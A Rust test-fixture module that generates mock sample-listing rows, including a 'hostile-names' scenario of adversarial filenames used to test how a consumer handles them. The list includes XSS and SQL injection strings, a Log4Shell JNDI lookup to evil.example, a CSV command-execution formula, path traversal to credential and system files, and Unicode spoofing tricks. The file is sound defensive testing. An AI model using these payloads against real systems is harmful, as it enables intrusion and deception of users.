//! Scenarios in which the values of fields are special.

use serde_json::{Map, Value, json};

use crate::generated::Listing;
use crate::server::rows::Rows;

/// The rows of a scenario of this file.
pub fn rows(name: &str) -> Option<Rows> {
    match name {
        "nulls" => Some(Rows::values(&nulls(Listing::mixed(90).values()))),
        "old-names" => Some(Rows::values(&old_names(Listing::mixed(85).values()))),
        "hostile-names" => Some(Rows::fixed(hostile(Listing::mixed(85).values()))),
        _ => None,
    }
}

const FIELDS: [&str; 16] = [
    "id",
    "sha1",
    "sha256",
    "md5",
    "type_display",
    "category",
    "file_type",
    "file_subtype",
    "identification_name",
    "identification_version",
    "file_size",
    "extracted_file_count",
    "local_first_seen",
    "local_last_seen",
    "classification",
    "classification_result",
];

/// In four rows each, one field of `sample` is null, missing, empty and `None`. Rows 70 to 79 lack other things.
fn nulls(mut rows: Vec<Value>) -> Vec<Value> {
    for (row, index) in rows.iter_mut().zip(0..FIELDS.len() * 4) {
        let field = FIELDS[index / 4];
        let Some(sample) = row["sample"].as_object_mut() else { continue };
        match index % 4 {
            0 => drop(sample.insert(field.to_owned(), Value::Null)),
            1 => drop(sample.shift_remove(field)),
            2 => drop(sample.insert(field.to_owned(), json!(""))),
            _ => drop(sample.insert(field.to_owned(), json!("None"))),
        }
    }
    remove(&mut rows[70], "sample");
    rows[71]["sample"] = Value::Null;
    rows[72]["filename"] = Value::Null;
    rows[73]["path"] = Value::Null;
    remove(&mut rows[74], "filename");
    remove(&mut rows[75], "path");
    remove(&mut rows[76], "parent_relationship");
    rows[77]["sample"]["riskscore"] = Value::Null;
    rows[78]["filename"] = json!("");
    rows[78]["path"] = json!("");
    rows[79]["sample"] = json!({});
    rows
}

fn remove(row: &mut Value, field: &str) {
    if let Some(fields) = row.as_object_mut() {
        fields.shift_remove(field);
    }
}

/// Puts the old names in the place of the new ones.
fn old_names(mut rows: Vec<Value>) -> Vec<Value> {
    for row in &mut rows {
        let Some(sample) = row["sample"].as_object() else { continue };
        let level = sample["riskscore"].as_u64().unwrap_or(0);
        let mut renamed = Map::new();
        for (field, value) in sample {
            match field.as_str() {
                "classification" => drop(renamed.insert("threat_status".to_owned(), value.clone())),
                "riskscore" => {
                    renamed.insert("threat_level".to_owned(), json!(level / 2));
                    renamed.insert("trust_factor".to_owned(), json!(5 - level / 2));
                }
                "classification_result" => drop(renamed.insert("threat_name".to_owned(), value.clone())),
                _ => drop(renamed.insert(field.clone(), value.clone())),
            }
        }
        row["sample"] = Value::Object(renamed);
    }
    rows
}

/// Names that adversaries choose.
const HOSTILE: &[&str] = &[
    "invoice\u{202e}fdp.exe",
    "safe\u{2066}exe.\u{2069}txt",
    "zero\u{200b}width\u{200d}\u{feff}joiner.dll",
    "nul\0byte.exe",
    "two\nlines.txt",
    "carriage\r\nreturn.txt",
    "tab\tseparated.csv",
    "\u{1b}[31mred\u{1b}[0m.sh",
    "bell\u{7}backspace\u{8}delete\u{7f}.bin",
    "c1\u{85}\u{9b}31m.bin",
    "<img src=x onerror=alert(1)>.png",
    "\"><script>alert(1)</script>",
    "'; DROP TABLE samples; --",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "+1+1.csv",
    "-2+3.csv",
    "@SUM(1,2).csv",
    "\t=1+1.csv",
    "../../etc/passwd",
    "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "/absolute/path",
    "C:\\Windows\\notepad.exe",
    "\\\\evil.example\\share\\x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.example/",
    "CON",
    "aux.txt",
    "LPT1.log",
    "trailing dots...",
    "trailing spaces   ",
    "   leading spaces",
    ".",
    "..",
    " ",
    "name:stream:$DATA",
    "emoji \u{1f9ea}\u{1f469}\u{200d}\u{1f52c}.txt",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd}.txt",
    "\u{645}\u{644}\u{641} \u{636}\u{627}\u{631}.exe",
    "mixed \u{5d0}\u{5d1}\u{5d2} 123 \u{627}\u{628} abc.doc",
    "tag\u{e0041}\u{e0042}characters",
    "line\u{2028}separator\u{2029}.js",
    "soft\u{ad}hyphen.txt",
    "homogl\u{443}ph \u{440}\u{430}ypal.exe",
    "%2e%2e%2f%00.txt",
    "\\u0041 escaped twice",
    "quote\"back\\slash.txt",
    "nonchar\u{fffe}\u{ffff}.bin",
    "private\u{e000}use.bin",
];

/// Each of the names above, a very long one, one of combining marks and two with a lone half of a surrogate pair. Some
/// stand in type and threat name too.
fn hostile(mut rows: Vec<Value>) -> Vec<String> {
    let mut names: Vec<String> = HOSTILE.iter().map(|&name| name.to_owned()).collect();
    names.push("long".repeat(1_000));
    names.push(format!("z{}algo.txt", "\u{301}\u{327}\u{489}".repeat(100)));
    for (row, name) in rows.iter_mut().zip(&names) {
        row["filename"] = json!(name.rsplit('/').next().unwrap_or(name));
        row["path"] = json!(name);
    }
    for (index, name) in HOSTILE.iter().enumerate().step_by(3) {
        rows[index]["sample"]["type_display"] = json!(name);
        rows[index]["sample"]["classification_result"] = json!(name);
        rows[index]["sample"]["identification_name"] = json!(name);
    }
    let mut texts: Vec<String> = rows.iter().map(ToString::to_string).collect();
    // A Rust string can't hold half a surrogate pair, JSON text can.
    for (index, half) in [(60, r"\ud800"), (61, r"\udc00")] {
        rows[index]["filename"] = json!("HALF.exe");
        rows[index]["path"] = json!("HALF.exe");
        texts[index] = rows[index].to_string().replace("HALF", half);
    }
    texts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_field_is_once_null_once_missing() {
        let rows = nulls(Listing::mixed(90).values());
        for field in FIELDS {
            assert!(rows.iter().any(|row| row["sample"].get(field).is_some_and(Value::is_null)), "{field}");
            assert!(rows.iter().any(|row| row["sample"].is_object() && row["sample"].get(field).is_none()), "{field}");
            assert!(rows.iter().any(|row| row["sample"][field] == "None"), "{field}");
        }
    }

    #[test]
    fn hostile_rows_are_json_all_the_same() {
        let rows = hostile(Listing::mixed(85).values());
        assert_eq!(rows.len(), 85);
        let valid = rows.iter().filter(|row| serde_json::from_str::<Value>(row).is_ok()).count();
        assert_eq!(valid, 83, "all but the two with half a surrogate pair, which serde_json refuses");
        assert!(rows[60].contains(r#""\ud800.exe""#));
        assert!(rows.iter().all(|row| !row.contains('\0') && !row.contains('\n')));
    }
}
